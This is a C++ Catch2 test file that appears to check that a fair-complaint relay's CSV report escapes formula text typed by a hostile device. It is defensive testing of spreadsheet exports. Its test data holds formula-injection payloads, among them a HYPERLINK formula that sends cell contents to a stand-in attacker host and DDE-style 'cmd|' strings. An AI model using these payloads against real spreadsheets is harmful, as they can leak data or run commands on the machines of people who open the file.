// Finding 11 of issue 11: text one device typed lands in the bureau's cases.csv; a spreadsheet
// must show it as text, never run it. Through the real relay process and `fairguard-relay report`.
#include <catch2/catch.hpp>

#include <fstream>
#include <sstream>

#include "cases/event_types.h"
#include "hostile_fair.h"

using namespace fg;
using namespace fg::test;

namespace {

// RFC 4180 records (quoted cells may hold commas, quotes and line breaks).
std::vector<std::vector<std::string>> read_csv(const std::filesystem::path& file) {
  std::ifstream in(file, std::ios::binary);
  std::ostringstream s;
  s << in.rdbuf();
  const std::string text = s.str();
  std::vector<std::vector<std::string>> rows(1);
  std::string cell;
  bool quoted = false;
  for (std::size_t i = 0; i < text.size(); ++i) {
    const char c = text[i];
    if (quoted) {
      if (c == '"' && i + 1 < text.size() && text[i + 1] == '"')
        cell += '"', ++i;
      else if (c == '"')
        quoted = false;
      else
        cell += c;
    } else if (c == '"') {
      quoted = true;
    } else if (c == ',') {
      rows.back().push_back(std::move(cell)), cell.clear();
    } else if (c == '\r' && i + 1 < text.size() && text[i + 1] == '\n') {
      rows.back().push_back(std::move(cell)), cell.clear();
      rows.emplace_back();
      ++i;
    } else {
      cell += c;
    }
  }
  if (rows.back().empty()) rows.pop_back();
  return rows;
}

}  // namespace

TEST_CASE("hostile csv: formula text a device typed is neutralised in cases.csv, nothing lost", "[hostile]") {
  HostileFair fair;
  relay::SimStation& hostile = fair.station("hostile");
  const std::string name = R"x(=HYPERLINK("http://evil.example/?x="&A1,"click"))x";
  const std::string right = "@SUM(1+1)*cmd";
  const std::string exhibitor = "-2+3+cmd|x";
  const std::string cn = "CF138-" + hostile.code() + "-0001";
  auto add = [&](std::string_view type, Json body) {
    body["case_number"] = cn;
    hostile.store().append(hostile.key(), "GZ001", std::string(type), std::move(body));
  };
  add(events::kCaseOpened, {{"station", hostile.code()}, {"booth", "\t=1+1"}});
  add(events::kComplainantRecorded, {{"name", name}, {"kind", "company"}, {"country", "+CN"}});
  add(events::kRightRecorded, {{"right_type", "invention"}, {"number", right}});
  add(events::kRespondentRecorded, {{"exhibitor", exhibitor}, {"booth", "\t=1+1"}, {"booth_source", "manual"}});
  add(events::kProductRecorded, {{"description", "\r=cmd"}, {"display_form", "exhibit"}});
  REQUIRE(hostile.sync().report.events_refused == 0);

  const auto out = fair.dir() / "report";
  const auto r = fair.relay().admin({"report", "--out", out.string()});
  INFO(r.err << r.out);
  REQUIRE(r.code == 0);
  const auto rows = read_csv(out / "cases.csv");
  REQUIRE(rows.size() == 2);
  const auto& header = rows[0];
  const auto& row = rows[1];
  REQUIRE(row.size() == header.size());
  auto cell = [&](const std::string& column) {
    for (std::size_t i = 0; i < header.size(); ++i)
      if (header[i] == column) return row[i];
    FAIL("no column " << column);
    return std::string{};
  };
  // What a spreadsheet shows: the text as typed behind one single quote.
  CHECK(cell("complainant") == "'" + name);
  CHECK(cell("right_number") == "'" + right);
  CHECK(cell("exhibitor") == "'" + exhibitor);
  CHECK(cell("booth") == "'\t=1+1");
  CHECK(cell("product") == "'\r=cmd");
  CHECK(cell("complainant_country") == "'+CN");
  for (const auto& c : row) {
    INFO(c);
    CHECK((c.empty() || std::string("=+-@\t\r\n").find(c.front()) == std::string::npos));
  }
}
